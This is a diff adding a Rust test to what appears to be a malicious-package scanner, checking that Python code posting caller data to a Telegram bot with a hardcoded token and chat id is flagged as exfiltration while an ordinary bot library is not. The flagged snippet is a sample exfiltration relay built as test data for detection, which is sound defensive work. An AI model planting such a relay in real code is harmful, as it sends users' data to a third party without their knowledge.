@@ -2380,3 +2380,30 @@ fn decoded_arguments_to_a_named_program_are_not_a_hidden_command() {
         assert_eq!(severity_of("sdk/local.py", &now, "process-decoded"), Some(Severity::Critical), "{now}");
     }
 }
+
+/// A chat bot whose token the code writes out, beside the bot API's
+/// address, belongs to the package's author: a library function that posts
+/// what its caller hands it there relays the caller's data to the author
+/// (high). A bot library takes its user's token and sends where its user
+/// says. Both front-ends. The token is made up for the test, in the shape
+/// of a Telegram bot's. Written for the test.
+#[test]
+fn data_sent_to_a_bot_whose_token_is_written_in_the_code_goes_to_its_author() {
+    let token = format!("{}:{}", "1234567890", "AAE".to_owned() + &"x".repeat(32));
+    let relay = format!(
+        "import requests\nclass Notify:\n    def __init__(self):\n        self.token = '{token}'\n        \
+         self.chat = '99887766'\n    def send(self, message):\n        \
+         url = f'https://api.telegram.org/bot{{self.token}}/sendMessage'\n        \
+         requests.post(url, params={{'chat_id': self.chat, 'text': message}})\n"
+    );
+    let library = "import requests\nclass Bot:\n    def __init__(self, token):\n        self.token = token\n    \
+                   def send(self, chat, message):\n        \
+                   url = 'https://api.telegram.org/bot%s/sendMessage' % self.token\n        \
+                   requests.post(url, params={'chat_id': chat, 'text': message})\n";
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{relay}{tail}");
+        assert_eq!(severity_of("notify/core.py", &src, "exfiltration"), Some(Severity::High), "{src}");
+        let src = format!("{library}{tail}");
+        assert_eq!(severity_of("bot/core.py", &src, "exfiltration"), None, "{src}");
+    }
+}
